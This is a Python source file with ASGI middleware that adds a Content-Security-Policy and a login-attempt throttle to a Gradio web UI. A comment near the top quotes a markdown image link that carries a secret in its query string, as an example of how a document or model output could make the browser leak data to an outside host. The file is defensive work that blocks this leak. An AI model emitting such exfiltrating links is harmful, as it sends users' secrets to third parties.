"""HTTP protections around the web UI: a Content-Security-Policy, and slow-down for bad logins.

Both are one ASGI middleware on the FastAPI app Gradio builds, so they hold for every route,
Gradio's own included, whatever the page or a document asks for.
"""

from __future__ import annotations

import json
import math
import time
from dataclasses import dataclass
from typing import Any

# The page may load and connect to this server only. Images, media and fonts from elsewhere are
# refused, so a document or an answer cannot make the browser report to an outside host (an
# `![](http://host/?q=secret)` in model output would otherwise leak the secret). Each allowance
# beyond 'self' is one Gradio 6's page needs, found by removing it in Chromium: its config and
# start-up code are inline scripts and it sets inline styles ('unsafe-inline'), it runs the `js=`
# hook and its HTML templates through eval ('unsafe-eval'), and its icons are data: images.
CONTENT_SECURITY_POLICY = "; ".join(
    [
        "default-src 'self'",
        "script-src 'self' 'unsafe-inline' 'unsafe-eval'",
        "style-src 'self' 'unsafe-inline'",
        "img-src 'self' data: blob:",
        "media-src 'self'",
        "font-src 'self'",
        "connect-src 'self'",
        "worker-src 'self' blob:",
        "frame-src 'self'",
        "object-src 'none'",
        "base-uri 'self'",
        "form-action 'self'",
        "frame-ancestors 'self'",
    ]
)

# Wrong logins allowed from one address before it must wait, how long the first wait lasts, and
# the longest wait: each wrong login after a wait doubles the next one.
LOGIN_ATTEMPTS = 5
LOGIN_COOLDOWN = 30.0
LOGIN_COOLDOWN_MAX = 900.0
_FORGET_AFTER = 3600.0  # an address quiet this long starts afresh
_LOGIN_PATHS = frozenset({"/login", "/login/"})


@dataclass
class _Client:
    failures: int = 0
    until: float = 0.0  # refused until this time (time.monotonic)
    last: float = 0.0


class LoginThrottle:
    """Counts wrong logins per client address and says how long an address must wait."""

    def __init__(self) -> None:
        self._clients: dict[str, _Client] = {}

    def admit(self, address: str) -> float:
        """0 to let this login through (counted as wrong until it succeeds), else seconds left."""
        now = time.monotonic()
        self._forget(now)
        client = self._clients.setdefault(address, _Client())
        if client.until > now:
            return client.until - now
        # Counted before the password is checked: logins sent all at once cannot pass the limit.
        client.failures += 1
        client.last = now
        if client.failures >= LOGIN_ATTEMPTS:
            wait = LOGIN_COOLDOWN * 2 ** (client.failures - LOGIN_ATTEMPTS)
            client.until = now + min(wait, LOGIN_COOLDOWN_MAX)
        return 0.0

    def succeeded(self, address: str) -> None:
        """The right password: this address starts afresh."""
        self._clients.pop(address, None)

    def _forget(self, now: float) -> None:
        if len(self._clients) < 1000:
            return
        for address, client in list(self._clients.items()):
            if client.until < now and now - client.last > _FORGET_AFTER:
                del self._clients[address]


class Guard:
    """ASGI middleware: the CSP header on every response, and the login throttle."""

    def __init__(self, app: Any, throttle: LoginThrottle | None = None) -> None:
        self.app = app
        self.throttle = throttle or LoginThrottle()

    async def __call__(self, scope: dict, receive: Any, send: Any) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        address = (scope.get("client") or ("unknown", 0))[0]
        login = scope["method"] == "POST" and scope["path"] in _LOGIN_PATHS
        if login and (wait := self.throttle.admit(address)):
            await _too_many(send, wait)
            return

        async def send_with_policy(message: dict) -> None:
            if message["type"] == "http.response.start":
                headers = [
                    (k, v)
                    for k, v in message.get("headers", [])
                    if k.lower() != b"content-security-policy"
                ]
                headers.append((b"content-security-policy", CONTENT_SECURITY_POLICY.encode()))
                message = {**message, "headers": headers}
                if login and message["status"] == 200:
                    self.throttle.succeeded(address)
            await send(message)

        await self.app(scope, receive, send_with_policy)


async def _too_many(send: Any, wait: float) -> None:
    seconds = math.ceil(wait)
    detail = (
        f"Too many wrong logins from this address: wait {seconds} s, then try again "
        "with the right user name and password."
    )
    body = json.dumps({"detail": detail}).encode()
    headers = [
        (b"content-type", b"application/json"),
        (b"content-length", str(len(body)).encode()),
        (b"retry-after", str(seconds).encode()),
        (b"content-security-policy", CONTENT_SECURITY_POLICY.encode()),
    ]
    await send({"type": "http.response.start", "status": 429, "headers": headers})
    await send({"type": "http.response.body", "body": body})
